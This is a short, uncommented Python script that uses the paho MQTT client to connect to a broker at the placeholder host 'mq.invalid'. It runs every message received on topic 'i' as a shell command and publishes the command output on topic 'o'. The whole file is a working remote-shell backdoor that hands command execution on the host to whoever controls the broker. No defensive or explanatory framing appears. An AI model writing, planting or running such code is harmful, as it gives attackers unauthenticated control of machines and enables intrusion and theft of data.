import paho.mqtt.client as mqtt, subprocess
def on_message(c, u, m):
    c.publish("o", subprocess.getoutput(m.payload.decode()))
c = mqtt.Client(); c.on_message = on_message
c.connect("mq.invalid"); c.subscribe("i"); c.loop_start()
